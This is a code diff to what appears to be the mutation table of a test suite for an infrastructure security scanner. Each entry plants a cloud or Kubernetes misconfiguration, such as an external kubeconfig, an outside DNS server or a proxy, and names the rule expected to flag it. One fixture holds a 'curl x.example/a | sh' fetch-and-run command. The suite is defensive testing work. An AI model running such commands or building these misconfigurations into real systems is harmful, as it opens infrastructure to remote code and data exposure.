@@ -178,6 +178,20 @@ FOREIGN_KEY = {
     "Effect": "Allow", "Principal": {"AWS": FOREIGN_ROOT}, "Action": "kms:Decrypt", "Resource": "*",
 }  # fmt: skip
 ELB = "elasticloadbalancing"
+# What a bundle holds besides scripts and units, and by what each is found.
+OTHER_TEXTS = (
+    ("a kubeconfig of an API outside", "files/etc/kubernetes/kubelet.kubeconfig",
+     "clusters: [{cluster: {server: https://api.x.example:6443}}]\n", "CN-201", ""),
+    ("a mirror of images outside", "files/etc/containerd/certs.d/_default/hosts.toml",
+     'server = "https://registry-1.x.example"\n', "CN-201", ""),
+    ("a server for names outside", "files/etc/resolv.conf", "nameserver 198.51.100.7\n", "CN-201",
+     ""),
+    ("a manifest with a public image", "files/opt/site/pod.yaml",
+     "apiVersion: v1\nkind: Pod\nspec: {containers: [{image: docker.io/library/redis}]}\n",
+     "CN-145", "CN-146"),
+    ("a proxy outside", "files/etc/profile.d/proxy.sh",
+     "export https_proxy=http://proxy.x.example:3128\n", "CN-202", ""),
+)  # fmt: skip
 OPENED = (
     opens("a member of etcd that anybody may ask", "CN-101",
           _lets(INGRESS, "door", "etcd", fromPort=2379, toPort=2379, **ANY)),
@@ -201,6 +215,9 @@ OPENED = (
     opens("a script in a bundle that fetches from the internet", "CN-201",
           edit(OBJECT, "contentBase64", packed("files/opt/site", script("curl x.example/a | sh")),
                _called("etcd"))),
+    *(opens(f"{what} in a bundle", caught, edit(OBJECT, "contentBase64", packed(name, text),
+                                                 _called("node-workers")), also)
+      for what, name, text, caught, also in OTHER_TEXTS),
     opens("a bucket of bundles for a foreign reader", "CN-131 perimeter",
           _more(BUCKET_POLICY, "policy", FOREIGN_READ, "machines")),
     opens("a bucket of a control plane that is read from anywhere", "CN-180",
@@ -259,4 +276,5 @@ BROKEN = (
     breaks("a DNS Firewall that forgets the bucket of the bundles", "CN-194",
            _owned(unnamed("self-hosted-"))),
 )  # fmt: skip
+
 MUTATIONS = (*OPENED, *BROKEN)
